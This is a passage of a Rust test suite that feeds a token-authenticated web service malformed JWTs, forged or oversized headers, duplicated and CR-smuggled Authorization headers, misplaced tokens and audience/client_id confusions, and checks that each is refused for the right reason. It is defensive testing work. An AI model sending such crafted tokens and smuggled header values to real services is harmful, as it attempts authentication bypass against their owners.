        ),
        Case::bearer(
            "header with invalid UTF-8",
            header_of(b"{\"alg\":\"RS256\xff\",\"kid\":\"x\"}"),
            Invalid(BadHeader),
        ),
        Case::bearer(
            "header with a BOM",
            header_of(b"\xef\xbb\xbf{\"alg\":\"RS256\",\"kid\":\"x\"}"),
            Invalid(BadHeader),
        ),
        Case::bearer(
            "header nested 5000 deep",
            header_of(deep(5000).as_bytes()),
            Invalid(BadHeader),
        ),
        Case::bearer(
            "header object with a value nested 200 deep",
            header_of(format!(r#"{{"alg":"RS256","kid":"x","z":{}}}"#, deep(200)).as_bytes()),
            Invalid(BadHeader),
        ),
        Case::bearer(
            "header with trailing garbage",
            header_of(format!("{}x", trusted_header()).as_bytes()),
            Invalid(BadHeader),
        ),
    ];
    let header = trusted_header().to_string();
    let good = claims().to_string();
    // serde would read a struct from a JSON array too; a JOSE header is an
    // object, even when the signature is genuine.
    cases.push(Case::bearer(
        "genuinely signed header that is a JSON array",
        signed_bytes(
            format!(
                r#"["RS256","{}",null,null,null,null,null]"#,
                trusted_key().kid
            )
            .as_bytes(),
            good.as_bytes(),
        ),
        Invalid(BadHeader),
    ));
    cases.push(Case::bearer(
        "genuinely signed header with a duplicate typ",
        signed_bytes(
            format!(
                r#"{{"kid":"{}","alg":"RS256","typ":"JWT","typ":"JOSE"}}"#,
                trusted_key().kid
            )
            .as_bytes(),
            good.as_bytes(),
        ),
        Invalid(BadHeader),
    ));
    for (what, payload) in [
        ("not JSON", b"hello".to_vec()),
        ("a JSON array", format!("[{good}]").into_bytes()),
        ("a JSON string", br#""sub-h""#.to_vec()),
        ("JSON null", b"null".to_vec()),
        ("a JSON number", b"1".to_vec()),
        ("white space only", b" ".to_vec()),
        (
            "invalid UTF-8",
            good.replacen("sub-h", "sub-\u{1}", 1)
                .bytes()
                .map(|b| if b == 1 { 0xff } else { b })
                .collect(),
        ),
        (
            "UTF-16",
            good.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        ),
        ("nested 5000 deep", deep(5000).into_bytes()),
        (
            "an object with a value nested 200 deep",
            format!(r#"{{"sub":{}}}"#, deep(200)).into_bytes(),
        ),
        (
            "an object followed by garbage",
            format!("{good}x").into_bytes(),
        ),
        ("two objects", format!("{good}{good}").into_bytes()),
    ] {
        cases.push(Case::bearer(
            format!("genuinely signed payload that is {what}"),
            signed_bytes(header.as_bytes(), &payload),
            Invalid(BadPayload),
        ));
    }
    let mut big = claims();
    big["padding"] = json!("p".repeat(MAX_TOKEN_BYTES));
    cases.push(Case::bearer(
        "genuinely signed but over 16 KiB",
        signed(&trusted_header(), &big),
        Invalid(TooLarge),
    ));
    cases.push(Case::bearer(
        "one byte over the limit",
        format!(
            "{h}.{p}.{}",
            "A".repeat(MAX_TOKEN_BYTES - h.len() - p.len() - 1)
        ),
        Invalid(TooLarge),
    ));
    cases
}

/// Odd `Authorization` headers, raw bytes included.
fn authorization_header_cases() -> Vec<Case> {
    let token = valid();
    let auth = |v: &str| vec![("Authorization", v.as_bytes().to_vec())];
    let bytes = |v: &[u8]| vec![("Authorization", v.to_vec())];
    vec![
        Case::headers("empty Authorization", auth(""), NoCredentials),
        Case::headers("scheme only", auth("Bearer"), Invalid(Malformed)),
        Case::headers("lowercase scheme only", auth("bearer"), Invalid(Malformed)),
        Case::headers(
            "scheme and spaces",
            auth("Bearer      "),
            Invalid(Malformed),
        ),
        Case::headers(
            "Basic credentials",
            auth("Basic dXNlcjpwYXNz"),
            NoCredentials,
        ),
        Case::headers(
            "Digest credentials",
            auth(r#"Digest username="u", response="x""#),
            NoCredentials,
        ),
        Case::headers("JWT scheme", auth(&format!("JWT {token}")), NoCredentials),
        Case::headers(
            "tab after the scheme",
            auth(&format!("Bearer\t{token}")),
            NoCredentials,
        ),
        Case::headers(
            "colon after the scheme",
            auth(&format!("Bearer:{token}")),
            NoCredentials,
        ),
        Case::headers(
            "equals after the scheme",
            auth(&format!("Bearer={token}")),
            NoCredentials,
        ),
        Case::headers(
            "two tokens",
            auth(&format!("Bearer {token} {token}")),
            Invalid(Malformed),
        ),
        Case::headers(
            "comma-joined credentials",
            auth(&format!("Bearer {token}, Bearer {token}")),
            Invalid(Malformed),
        ),
        Case::headers(
            "scheme twice",
            auth(&format!("Bearer Bearer {token}")),
            Invalid(Malformed),
        ),
        Case::headers(
            "quoted token",
            auth(&format!("Bearer \"{token}\"")),
            Invalid(Malformed),
        ),
        Case::headers(
            "token with a semicolon",
            auth(&format!("Bearer {token};")),
            Invalid(Malformed),
        ),
        Case::headers(
            "two Authorization headers, both valid",
            vec![
                ("Authorization", format!("Bearer {token}").into_bytes()),
                ("Authorization", format!("Bearer {token}").into_bytes()),
            ],
            Invalid(MultipleAuthorizationHeaders),
        ),
        Case::headers(
            "Authorization and authorization",
            vec![
                ("Authorization", format!("Bearer {token}").into_bytes()),
                ("authorization", b"Bearer a.b.c".to_vec()),
            ],
            Invalid(MultipleAuthorizationHeaders),
        ),
        Case::headers(
            "Basic then Bearer",
            vec![
                ("Authorization", b"Basic dXNlcjpwYXNz".to_vec()),
                ("Authorization", format!("Bearer {token}").into_bytes()),
            ],
            Invalid(MultipleAuthorizationHeaders),
        ),
        Case::headers(
            "invalid UTF-8 after the scheme",
            bytes(b"Bearer \xff\xfe.\xfd.\xfc"),
            Invalid(Malformed),
        ),
        Case::headers(
            "Latin-1 letter in the token",
            bytes(&[b"Bearer a.b".as_slice(), b"\xe9.c"].concat()),
            Invalid(Malformed),
        ),
        Case::headers(
            "NUL in the token",
            bytes(format!("Bearer {token}\0").as_bytes()),
            Http(400),
        ),
        Case::headers(
            "DEL in the token",
            bytes(format!("Bearer {token}\x7f").as_bytes()),
            Http(400),
        ),
        Case::headers(
            "bare CR in the value",
            bytes(format!("Bearer {token}\rX: y").as_bytes()),
            Http(400),
        ),
        Case::headers(
            "obsolete line folding",
            bytes(format!("Bearer\r\n {token}").as_bytes()),
            Http(400),
        ),
        Case::headers(
            "space before the colon",
            vec![("Authorization ", format!("Bearer {token}").into_bytes())],
            Http(400),
        ),
        Case::headers(
            "a 40 KiB Authorization header",
            auth(&format!("Bearer {}", "A".repeat(40 * 1024))),
            Invalid(TooLarge),
        ),
        Case::headers(
            "a 1 MiB Authorization header",
            auth(&format!("Bearer {}", "A".repeat(1 << 20))),
            Http(431),
        ),
        Case::headers(
            "200 Authorization headers",
            (0..200)
                .map(|_| ("Authorization", format!("Bearer {token}").into_bytes()))
                .collect(),
            Http(431),
        ),
    ]
}

/// A token anywhere but `Authorization` authenticates nobody.
fn elsewhere_cases() -> Vec<Case> {
    let token = valid();
    let bearer = format!("Bearer {token}").into_bytes();
    let header = |name: &'static str, value: Vec<u8>| {
        Case::headers(
            format!("token in {name}"),
            vec![(name, value)],
            NoCredentials,
        )
    };
    vec![
        Case::headers("token in ?id_token=", vec![], NoCredentials)
            .at("GET", &format!("{PRIVATE}?id_token={token}")),
        Case::headers("token in ?authorization=", vec![], NoCredentials)
            .at("GET", &format!("{PRIVATE}?authorization=Bearer%20{token}")),
        Case::headers(
            "token in a cookie named access_token",
            vec![("Cookie", format!("access_token={token}").into_bytes())],
            NoCredentials,
        ),
        Case::headers(
            "token in a cookie named Authorization",
            vec![(
                "Cookie",
                format!("Authorization=Bearer%20{token}").into_bytes(),
            )],
            NoCredentials,
        ),
        Case::headers(
            "token in a form body (RFC 6750 §2.2)",
            vec![],
            NoCredentials,
        )
        .body(
            "application/x-www-form-urlencoded",
            &format!("access_token={token}"),
        ),
        Case::headers("token in a JSON body", vec![], NoCredentials)
            .body("application/json", &json!({"token": token}).to_string()),
        header("Proxy-Authorization", bearer.clone()),
        header("Authorisation", bearer.clone()),
        header("X-Authorization", bearer.clone()),
        header("X-Access-Token", token.clone().into_bytes()),
        header("X-Amzn-Oidc-Data", token.clone().into_bytes()),
        header("X-Forwarded-Authorization", bearer.clone()),
        header("WWW-Authenticate", bearer),
        Case::headers("token in the path", vec![], Http(404))
            .at("GET", &format!("{PRIVATE}/{token}")),
    ]
}

/// Every class of attack, by name, with its cases.
fn classes() -> Vec<(&'static str, Vec<Case>)> {
    vec![
        ("algorithm", algorithm_cases()),
        ("key selection", key_selection_cases()),
        ("signature", signature_cases()),
        ("claims", claim_cases()),
        ("admin look-alike groups", group_cases()),
        ("token structure", structure_cases()),
        ("Authorization header", authorization_header_cases()),
        ("token elsewhere", elsewhere_cases()),
    ]
}

fn all_cases() -> Vec<Case> {
    classes().into_iter().flat_map(|(_, cases)| cases).collect()
}

// ---- The tests --------------------------------------------------------------

#[actix_rt::test]
async fn hostile_tokens_and_requests_are_refused_with_the_right_reason() {
    let classes = classes();
    for (class, cases) in &classes {
        // Shown with --nocapture; the counts are what the suite claims.
        println!("{class}: {} cases", cases.len());
        assert!(cases.len() >= 10, "{class}: only {} cases", cases.len());
    }
    let cases: Vec<Case> = classes.into_iter().flat_map(|(_, c)| c).collect();
    assert!(cases.len() >= 100, "only {} cases", cases.len());
    let app = spawn_app().await;
    run(&app, cases).await;
}

#[actix_rt::test]
async fn every_refused_token_gets_the_generic_feed_and_401_on_protected_routes() {
    let app = spawn_app().await;
    let mut cases = Vec::new();
    for case in all_cases() {
        let (Some(token), Invalid(_)) = (&case.token, case.expect) else {
            continue;
        };
        cases.push(
            Case::bearer(format!("feed: {}", case.name), token.clone(), GenericFeed)
                .at("GET", FEED),
        );
        cases.push(
            Case::bearer(
                format!("/users/me: {}", case.name),
                token.clone(),
                case.expect,
            )
            .at("GET", "/users/me"),
        );
        cases.push(
            Case::bearer(format!("DELETE: {}", case.name), token.clone(), case.expect)
                .at("DELETE", "/users/sub-victim"),
        );
    }
    assert!(cases.len() >= 300, "only {} cases", cases.len());
    run(&app, cases).await;
}

#[actix_rt::test]
async fn access_token_confusions_are_refused() {
    let confusions = |cases: &mut Vec<Case>, policy: &str| {
        let mut aud_not_client_id = access_claims("sub-h", &[]);
        aud_not_client_id
            .as_object_mut()
            .map(|c| c.remove("client_id"));
        aud_not_client_id["aud"] = json!(CLIENT_ID);
        let mut both = access_claims("sub-h", &[]);
        both["client_id"] = json!(OTHER_CLIENT_ID);
        both["aud"] = json!(CLIENT_ID);
        for (what, claims, reason) in [
            (
                "access token naming the client in aud",
                aud_not_client_id,
                WrongClient,
            ),
            (
                "access token, right aud, wrong client_id",
                both,
                WrongClient,
            ),
            (
                "client_id as an array",
                {
                    let mut c = access_claims("sub-h", &[]);
                    c["client_id"] = json!([CLIENT_ID]);
                    c
                },
                WrongClaimType,
            ),
            (
                "client_id null",
                {
                    let mut c = access_claims("sub-h", &[]);
                    c["client_id"] = json!(null);
                    c
                },
                WrongClaimType,
            ),
            (
                "client_id upper case",
                {
                    let mut c = access_claims("sub-h", &[]);
                    c["client_id"] = json!(CLIENT_ID.to_uppercase());
                    c
                },
                WrongClient,
            ),
            (
                "client_id empty",
                {
                    let mut c = access_claims("sub-h", &[]);
                    c["client_id"] = json!("");
                    c
                },
                WrongClient,
            ),
            (
                "token_use Access",
                {
                    let mut c = access_claims("sub-h", &[]);
                    c["token_use"] = json!("Access");
                    c
                },
                WrongTokenUse,
            ),
            (
                "username of the wrong type",
                {
                    let mut c = access_claims("sub-h", &[]);
                    c["username"] = json!(["a"]);
                    c
                },
                WrongClaimType,
            ),
        ] {
            cases.push(Case::bearer(
                format!("{policy}: {what}"),
                signed(&trusted_header(), &claims),
                Invalid(reason),
            ));
        }
    };
    for policy in ["access", "any"] {
        let app = spawn_app_with(&[("COGNITO_TOKEN_USE", policy)]).await;
        let mut cases = Vec::new();
        confusions(&mut cases, policy);
        if policy == "any" {
            let mut id_by_client_id = claims_without("aud");
            id_by_client_id["client_id"] = json!(CLIENT_ID);
            cases.push(Case::bearer(
                "any: ID token with client_id instead of aud",
                signed(&trusted_header(), &id_by_client_id),
                Invalid(WrongClient),
            ));
        }
        run(&app, cases).await;
    }
}

/// The harness itself must be able to fail: a valid token run as a hostile
/// case is reported, and so is a refusal for the wrong reason.
#[actix_rt::test]
async fn the_harness_flags_acceptance_and_wrong_reasons() {
    let app = spawn_app().await;
    let address = app.address.trim_start_matches("http://").to_owned();
    let token = valid();
    let cases = [
        Case::bearer(
            "valid token as a hostile case",
            token.clone(),
            Invalid(BadSignature),
        ),
        Case::bearer(
            "expired token, wrong reason expected",
            signed(&trusted_header(), &claims_with("exp", json!(1))),
            Invalid(BadSignature),
        ),
        Case::bearer("valid token on the feed", token, GenericFeed).at("GET", FEED),
    ];
    for case in cases {
        let address = address.clone();
        let outcome = actix_rt::task::spawn_blocking(move || {
            let response = send_raw(&address, &case.request).expect("answer");
            judge(&case, &response, Duration::ZERO).map_err(|e| format!("{}: {e}", case.name))
        })
        .await
        .expect("case thread");
        assert!(outcome.is_err(), "the harness let this pass");
    }
}

/// Controls: the same server, the same harness, genuine tokens pass.
#[actix_rt::test]
async fn controls_genuine_tokens_pass_the_same_server() {
    let app = spawn_app().await;
    let address = app.address.trim_start_matches("http://").to_owned();
    let token = valid();
    let admin = id_token("sub-admin", None, &["users", "admin"]);
    let victim = id_token("sub-victim", None, &[]);
    let alt_issuer = signed(&trusted_header(), &claims_with("iss", json!(ISSUER_ALT)));
    let with_typ = signed(&header_with(&[("typ", json!("JWT"))]), &claims());
    let controls: Vec<(&str, Request, u16)> = vec![
        (
            "private",
            Case::bearer("", token.clone(), NoCredentials).request,
            200,
        ),
        (
            "lowercase scheme",
            Case::headers(
                "",
                vec![("Authorization", format!("bearer {token}").into_bytes())],
                NoCredentials,
            )
            .request,
            200,
        ),
        (
            "two spaces after the scheme",
            Case::headers(
                "",
                vec![("Authorization", format!("Bearer  {token}").into_bytes())],
                NoCredentials,
            )
            .request,
            200,
        ),
        (
            "lowercase header name",
            Case::headers(
                "",
                vec![("authorization", format!("Bearer {token}").into_bytes())],
                NoCredentials,
            )
            .request,
            200,
        ),
        (
            "the other Cognito issuer form",
            Case::bearer("", alt_issuer, NoCredentials).request,
            200,
        ),
        (
            "a typ header",
            Case::bearer("", with_typ, NoCredentials).request,
            200,
        ),
        (
            "me",
            Case::bearer("", token.clone(), NoCredentials)
                .at("GET", "/users/me")
                .request,
            200,
        ),
        (
            "victim seen",
            Case::bearer("", victim, NoCredentials).request,
            200,
        ),
        (
            "admin deletes",
            Case::bearer("", admin, NoCredentials)
                .at("DELETE", "/users/sub-victim")
                .request,
            204,
        ),
    ];
    for (name, request, want) in controls {
        let address = address.clone();
        let status =
            actix_rt::task::spawn_blocking(move || send_raw(&address, &request).map(|r| r.status))
                .await
                .expect("thread");
        assert_eq!(status, Ok(want), "control {name}");
    }
    let feed = app.get(FEED, Some(&valid())).await;
    assert_eq!(
        feed.body,
        json!({"feed": "personalized", "user": "h@example.com"})
    );
}
